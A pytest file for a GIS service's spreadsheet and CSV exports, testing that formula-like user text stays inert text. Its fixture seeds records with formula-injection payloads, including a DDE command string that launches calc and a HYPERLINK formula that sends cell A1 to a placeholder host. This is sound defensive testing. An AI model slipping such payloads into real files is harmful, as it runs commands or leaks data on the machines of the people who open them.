"""No export runs what a user typed: formula-like text stays text in every workbook and CSV file.

The files are read back with openpyxl, the raw sheet XML and the ``csv`` module, never with the
code that wrote them.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import geopandas as gpd
import pytest
import shapely
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import Engine

from gis_service.export.sheets import CELL_LIMIT, OVERFLOW_SHEET, Column, Sheet, write_workbook
from tests.helpers import bearer
from tests.test_import_fixtures import X0, Y0, cli, river_frame, run, write

# The payloads of issue 13: each one a live formula (or DDE call) if written as is.
HYPERLINK = '=HYPERLINK("http://example.invalid/?q="&A1,"点我")'
HOSTILE = ["=1+1", HYPERLINK, "@SUM(1)", "=cmd|' /C calc'!A0", "+1+2", "-1+2"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-\d+(\.\d+)?([eE]-?\d+)?")


def formulas_in_xml(data: bytes) -> list[str]:
    """Return every formula element in the workbook's sheets (read from the raw XML)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return [
            m.group(0)
            for name in book.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.finditer(rb"<f[ >].*?</f>", book.read(name))
        ]


def text_cells(data: bytes) -> dict[str, Any]:
    """Return every string cell's value → its cell (all sheets), asserting none holds a formula."""
    book = load_workbook(io.BytesIO(data))
    found: dict[str, Any] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, cell)
    return found


def assert_workbook_safe(data: bytes, expected: list[str]) -> None:
    """No live formula anywhere; each ``expected`` text is there verbatim, as quote-prefixed text."""
    assert formulas_in_xml(data) == []
    cells = text_cells(data)
    for text in expected:
        assert text in cells, (text, sorted(cells)[:40])
        assert cells[text].quotePrefix, text


def csv_rows(data: bytes, encoding: str) -> list[list[str]]:
    """Parse a CSV file the way a spreadsheet import would see its fields."""
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def assert_csv_safe(data: bytes, encoding: str, expected: list[str]) -> None:
    """No field starts with a formula character unless it is a number; each text is there with its apostrophe."""
    fields = [f for row in csv_rows(data, encoding) for f in row]
    for f in fields:
        if f.startswith(TRIGGERS):
            assert NUMBER.fullmatch(f), f  # a negative number is data; anything else would be run
    for text in expected:
        assert "'" + text in fields, (text, fields[:40])


@pytest.fixture
def hostile(engine: Engine, client: TestClient, tokens: dict[str, str], tmp_path: Path) -> TestClient:
    """A river, its zones, a problem, an outfall and audit entries, all carrying formula-like text."""
    exit_code, body = cli("import", "rivers", str(write(river_frame(name=HYPERLINK), tmp_path / "r.gpkg")))
    assert exit_code == 0, body
    lines = [shapely.LineString([(X0 + 10 + 13 * i, Y0 + 60), (X0 + 23 + 13 * i, Y0 + 60)]) for i in range(6)]
    zones = gpd.GeoDataFrame(
        {"HLBM": ["R1"] * 6, "AB": ["左岸"] * 6, "GNQLX": ["保护区"] * 6, "HFYJ": HOSTILE}, geometry=lines, crs=4545
    )
    exit_code, body = cli("import", "zones", str(write(zones, tmp_path / "z.gpkg")), "--approve")
    assert exit_code == 0, body
    admin, surveyor = bearer(tokens["admin"]), bearer(tokens["surveyor"])
    problem = {"lon": 106.9, "lat": 28.9, "category": "dumping", "description": "=1+1", "code": "@SUM(1)"}
    assert client.post("/api/v1/problems", json=problem, headers=surveyor).status_code == 201
    outfall = {"lon": 106.9, "lat": 28.9, "code": "-1+2", "name": HYPERLINK, "outfall_type": "industrial"}
    made = client.post("/api/v1/outfalls", json=outfall, headers=surveyor)
    assert made.status_code == 201, made.text
    assert client.post("/api/v1/tokens", json={"name": "=cmd|' /C calc'!A0", "role": "viewer"}, headers=admin)
    return client


def test_layer_ledger_and_register_workbooks_hold_no_formulas(hostile: TestClient, tmp_path: Path) -> None:
    for layer, expected in (
        ("zones", HOSTILE),
        ("rivers", [HYPERLINK]),
        ("problems", ["=1+1", "@SUM(1)"]),
        ("outfalls", ["-1+2", HYPERLINK]),
    ):
        out = tmp_path / f"{layer}.xlsx"
        result = run("export", layer, "-o", str(out))
        assert result.exit_code == 0, result.output
        assert_workbook_safe(out.read_bytes(), expected)
    register = tmp_path / "名录.xlsx"
    assert run("outfalls", "export", "-o", str(register)).exit_code == 0
    assert_workbook_safe(register.read_bytes(), ["-1+2", HYPERLINK])


@pytest.mark.parametrize("encoding", ["UTF-8", "GBK"])
def test_layer_csv_files_guard_every_formula_like_text(hostile: TestClient, encoding: str) -> None:
    for layer, expected in (("zones", HOSTILE), ("problems", ["=1+1", "@SUM(1)"]), ("outfalls", ["-1+2", HYPERLINK])):
        response = hostile.get(f"/api/v1/layers/{layer}/export", params={"format": "csv", "encoding": encoding})
        assert response.status_code == 200, response.text
        assert_csv_safe(response.content, "utf-8-sig" if encoding == "UTF-8" else "gbk", expected)


def test_ratio_and_audit_exports_hold_no_formulas(hostile: TestClient, tokens: dict[str, str]) -> None:
    ratios = hostile.get("/api/v1/ratios/export.xlsx")
    assert ratios.status_code == 200
    assert_workbook_safe(ratios.content, [*HOSTILE, HYPERLINK])  # the basis texts and the river's name
    ratio_csv = hostile.get("/api/v1/ratios/export.csv")
    assert_csv_safe(ratio_csv.content, "utf-8-sig", [HYPERLINK])
    admin = bearer(tokens["admin"])
    book = hostile.get("/api/v1/audit/export.xlsx", headers=admin)
    assert book.status_code == 200
    assert_workbook_safe(book.content, ["=cmd|' /C calc'!A0"])
    assert hostile.get("/api/v1/audit/export.xlsx", headers=bearer(tokens["surveyor"])).status_code == 403
    table = hostile.get("/api/v1/audit/export.csv", headers=admin)
    assert_csv_safe(table.content, "utf-8-sig", ["=cmd|' /C calc'!A0"])


def test_tab_cr_and_long_texts_in_the_writer(tmp_path: Path) -> None:
    long_text = "河" * 40_000 + "尾" * 30_000  # 70 000 characters: three pieces of at most 32 767
    rows = [["\t=1+1", 1.5], ["\r=1+1", 0.25], [long_text, None]]
    out = write_workbook(tmp_path / "t.xlsx", [Sheet("表", [Column("文字"), Column("占比", "0.0%")], rows)])
    data = out.read_bytes()
    assert_workbook_safe(data, ["\t=1+1"])
    book: Workbook = load_workbook(out)
    sheet = book["表"]
    assert sheet["B2"].value == 1.5 and sheet["B2"].number_format == "0.0%"  # a number, shown as a percentage
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:B4"
    shown = sheet["A4"].value
    assert len(shown) <= CELL_LIMIT and shown.startswith("河" * 1000) and OVERFLOW_SHEET in shown
    pieces = [r for r in book[OVERFLOW_SHEET].iter_rows(min_row=2, values_only=True)]
    assert [(p[0], p[1], p[2], p[3]) for p in pieces] == [("表", "A4", 70_000, f"{n}/3") for n in (1, 2, 3)]
    assert "".join(p[4] for p in pieces) == long_text  # nothing lost
